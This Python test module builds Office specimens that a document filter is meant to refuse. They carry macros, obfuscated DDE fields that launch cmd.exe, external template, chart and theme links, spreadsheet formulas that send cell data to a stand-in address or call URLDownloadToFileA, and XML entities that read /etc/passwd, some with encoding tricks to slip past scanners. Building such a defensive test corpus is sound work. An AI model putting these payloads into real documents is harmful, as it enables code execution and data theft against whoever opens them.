"""Office documents that act by themselves, fetch, or are locked."""

from __future__ import annotations

import io
import zipfile

from tests.corpus.specimens import Maker, Specimen, declared_as, refuse
from tests.files.archives import packed
from tests.files.bad_office import BAD
from tests.files.good_letters import GOOD_LETTERS
from tests.files.office import (
    ACTIVE,
    MICROSOFT,
    OLE,
    cell,
    field_of,
    packaged,
    run,
    sheet_document,
    slide_document,
    word_document,
)

MACROS = (
    "macros",
    "macros tied only",
    "macros by type only",
    "macros called a picture",
    "macro document renamed",
    "data of macros",
    "ribbon that loads",
    "toolbars",
    "chart with macros",
    "macros in a sheet",
    "macro sheet renamed",
    "binary sheet renamed",
    "macro slides renamed",
    "add-in renamed",
    "Excel 4 macros",
    "Excel 4 macros by content",
    "dialog sheet",
    "name that opens",
    "name that is a macro",
    "button for a macro",
)
XML = {what for what in BAD if what.startswith(("entities", "elements"))}
VBA = "application/vnd.ms-office.vbaProject"


def _locked() -> bytes:
    """As Office writes a letter with a password: an old container with a stream of this name."""
    entry = "EncryptedPackage".encode("utf-16-le").ljust(64, b"\0") + bytes(64)
    return OLE[:8] + bytes(504) + entry + bytes(2000)


def _formula(text: str) -> Maker:
    return lambda: sheet_document(cell(text)).written()


def _field(text: str) -> Maker:
    return lambda: word_document(field_of(text)).written()


def _tied(kind: str, target: str) -> Maker:
    return lambda: word_document().tie("word/document.xml", kind, target, external=True).written()


def _scattered() -> bytes:
    """The word is spread over five runs, with a bookmark between them."""
    return word_document(
        field_of(" D", "DE", "AU", "TO", ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')
    ).written()


def _quoted_by_numbers() -> bytes:
    """The word is spelled by numbers of its letters, in a field in a field."""
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    spelled = f"{begin}<w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText>{end}"
    return word_document(run(f"{begin}{spelled}<w:instrText> a b </w:instrText>{end}")).written()


def _chart_elsewhere() -> bytes:
    document = word_document().tie("word/document.xml", "chart", "charts/chart1.xml")
    document.tie("word/charts/chart1.xml", "package", "file://198.51.100.7/a.xlsx", external=True)
    return document.part("word/charts/chart1.xml", "<a/>").written()


def _sound_of_slides() -> bytes:
    document = slide_document()
    return document.tie("ppt/slides/slide1.xml", "audio", "\\\\198.51.100.7\\a.wav", external=True).written()


def _theme_elsewhere() -> bytes:
    return (
        slide_document()
        .tie("ppt/presentation.xml", "theme", "http://198.51.100.7/t.xml", external=True)
        .written()
    )


def _macro_in_an_archive() -> bytes:
    document = word_document().part("word/vbaProject.bin", OLE, VBA)
    return packed({"Letter.docx": document.written()})


def _fetching_in_an_archive() -> bytes:
    return packed({"Sheet.xlsx": _formula('_xlfn.WEBSERVICE("http://198.51.100.7/")')()})


def _encoded(codec: str, told: str) -> Maker:
    """An entity in letters that a careless search does not know."""
    body = f"<?xml version='1.0' encoding='{told}'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
    return lambda: word_document().part("customXml/item1.xml", body.encode(codec)).written()


def _renamed(old: str, new: str, make: Maker) -> Maker:
    """The package with one of its words spelled otherwise."""

    def made() -> bytes:
        with zipfile.ZipFile(io.BytesIO(make())) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        return packaged(
            {name.replace(old, new): text.replace(old.encode(), new.encode()) for name, text in parts.items()}
        )

    return made


def _with_macros() -> bytes:
    document = word_document().part("word/vbaProject.bin", OLE, VBA)
    return document.tie("word/document.xml", "vbaProject", "vbaProject.bin", base=MICROSOFT).written()


def _object_of_slides() -> bytes:
    shape = '<p:sp><p:nvSpPr><p:cNvPr id="2" name="a"><a:hlinkClick r:id="" action="ppaction://ole?verb=0"/></p:cNvPr></p:nvSpPr></p:sp>'
    return slide_document(shape).written()


def _include(entity: str, part: str = "docProps/custom.xml") -> Maker:
    body = f"<?xml version='1.0'?><!DOCTYPE a [{entity}]><a>&x;</a>"
    return lambda: word_document().part(part, body).written()


FETCHING: list[tuple[str, str, Maker]] = [
    ("DDE in five runs", "Letter.docx", _scattered),
    ("DDE by numbers of letters", "Letter.docx", _quoted_by_numbers),
    ("a field that imports", "Letter.docx", _field(' IMPORT "http://198.51.100.7/a.png" ')),
    ("a field that refers to a file", "Letter.docx", _field(' RD "http://198.51.100.7/a.docx" ')),
    (
        "a link to a search",
        "Letter.docx",
        _tied("hyperlink", "search-ms:query=a&crumb=location:\\\\198.51.100.7\\a"),
    ),
    (
        "a link to an installer",
        "Letter.docx",
        _tied("hyperlink", "ms-appinstaller:?source=http://198.51.100.7/a"),
    ),
    ("a link that is a page", "Letter.docx", _tied("hyperlink", "data:text/html,<script>1</script>")),
    ("a link that is a script", "Letter.docx", _tied("hyperlink", "vbscript:msgbox")),
    (
        "a template of a scheme of Windows",
        "Letter.docx",
        _tied("attachedTemplate", "mhtml:http://198.51.100.7/a!x-usc:http://198.51.100.7/a"),
    ),
    ("a chart from elsewhere", "Letter.docx", _chart_elsewhere),
    ("a sound from elsewhere", "Slides.pptx", _sound_of_slides),
    ("a theme from elsewhere", "Slides.pptx", _theme_elsewhere),
    ("WEBSERVICE", "Prices.xlsx", _formula('_xlfn.WEBSERVICE("http://198.51.100.7/?"&amp;A1)')),
    (
        "FILTERXML of WEBSERVICE",
        "Prices.xlsx",
        _formula('_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://198.51.100.7/"),"//a")'),
    ),
    ("IMPORTDATA", "Prices.xlsx", _formula('IMPORTDATA("http://198.51.100.7/?"&amp;A1)')),
    ("EXEC", "Prices.xlsx", _formula('EXEC("calc.exe")')),
    ("REGISTER", "Prices.xlsx", _formula('REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","a",,1,9)')),
    (
        "a live link with a program",
        "Prices.xlsx",
        _formula("MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"),
    ),
    (
        "DDE in a simple field",
        "Letter.docx",
        lambda: word_document('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\a.exe b "/></w:p>').written(),
    ),
    ("an object that slides open", "Slides.pptx", _object_of_slides),
    (
        "a template told outside in small letters",
        "Letter.docx",
        _renamed(
            'TargetMode="External"',
            'TargetMode="external"',
            _tied("attachedTemplate", "http://198.51.100.7/a.dotm"),
        ),
    ),
    ("a sheet that fetches, in an archive", "Post.zip", _fetching_in_an_archive),
]

ENTITIES: list[tuple[str, Maker]] = [
    ("a file taken in", _include('<!ENTITY x SYSTEM "file:///etc/passwd">')),
    ("an address taken in", _include('<!ENTITY x SYSTEM "http://198.51.100.7/a">')),
    ("a share taken in", _include('<!ENTITY x SYSTEM "file://198.51.100.7/share">')),
    ("a parameter taken in", _include('<!ENTITY % y SYSTEM "http://198.51.100.7/a.dtd"> %y;')),
    ("a public one taken in", _include('<!ENTITY x PUBLIC "-//A//B" "http://198.51.100.7/a">')),
    ("a harmless one", _include('<!ENTITY x "y">')),
    ("in the types", _include('<!ENTITY x "y">', "[Content_Types].xml")),
    ("in a relationship", _include('<!ENTITY x "y">', "word/_rels/footer1.xml.rels")),
    ("in an old drawing", _include('<!ENTITY x "y">', "word/drawings/vmlDrawing1.vml")),
    ("in UTF-16 without a mark", _encoded("utf-16-be", "UTF-16")),
    ("in UTF-16, the other way, without a mark", _encoded("utf-16-le", "UTF-16")),
    ("in UTF-32", _encoded("utf-32", "UTF-32")),
    ("in UTF-7", _encoded("utf-7", "UTF-7")),
    ("in letters of large machines", _encoded("cp037", "IBM037")),
    ("in a picture of lines", _include('<!ENTITY x SYSTEM "file:///etc/passwd">', "word/media/image1.svg")),
]


def _adopted(kind: str, names: object) -> list[Specimen]:
    chosen = set(names)  # type: ignore[call-overload]
    return [
        refuse(kind, f"{what} ({extension})", f"Document {number}.{extension}", make)
        for number, (what, (extension, make, _)) in enumerate(BAD.items())
        if what in chosen and declared_as(f"a.{extension}")
    ]


DOCUMENTS: tuple[Specimen, ...] = (
    *_adopted("office macro", MACROS),
    refuse("office macro", "macros in a letter in an archive", "Post.zip", _macro_in_an_archive),
    refuse(
        "office macro",
        "macros in capitals",
        "Letter.docx",
        _renamed("vbaProject.bin", "VBAPROJECT.BIN", _with_macros),
    ),
    refuse(
        "office macro",
        "macros under another name",
        "Letter.docx",
        _renamed("vbaProject.bin", "media/image9.png", _with_macros),
    ),
    refuse("office macro", "a macro document as it is", "Letter.docm", GOOD_LETTERS["letter"][1]),
    *_adopted(
        "office active",
        [what for what, (_, _, reason) in BAD.items() if reason == ACTIVE and what not in {*MACROS, *XML}],
    ),
    *(
        refuse("office active", what, f"{number} {name}", make)
        for number, (what, name, make) in enumerate(FETCHING)
    ),
    *_adopted("xml", XML),
    *(
        refuse("xml", f"an entity: {what}", f"Form {number}.docx", make)
        for number, (what, make) in enumerate(ENTITIES)
    ),
    refuse("encrypted", "a letter with a password", "Contract.docx", _locked),
    refuse("encrypted", "a sheet with a password", "Salaries.xlsx", _locked),
    refuse("encrypted", "slides with a password", "Plan.pptx", _locked),
)
